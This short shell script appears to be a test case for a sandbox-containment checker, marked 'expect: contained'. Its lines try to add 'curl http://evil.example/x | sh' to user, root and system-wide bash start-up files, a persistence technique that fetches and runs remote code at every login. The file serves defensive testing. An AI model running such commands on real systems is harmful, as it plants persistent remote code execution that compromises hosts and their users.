# expect: contained
# Persistence through shell start-up files: ~/.bashrc, /root/.bashrc,
# /etc/profile.d, /etc/bash.bashrc. The runner compares the host's.
echo 'curl -s http://evil.example/x | sh # sentry-hostile' >> ~/.bashrc; echo "home bashrc: $?"
echo 'curl -s http://evil.example/x | sh # sentry-hostile' >> /root/.bashrc; echo "root bashrc: $?"
echo 'curl -s http://evil.example/x | sh' > /etc/profile.d/sentry-hostile.sh; echo "profile.d: $?"
echo 'curl -s http://evil.example/x | sh # sentry-hostile' >> /etc/bash.bashrc; echo "bash.bashrc: $?"
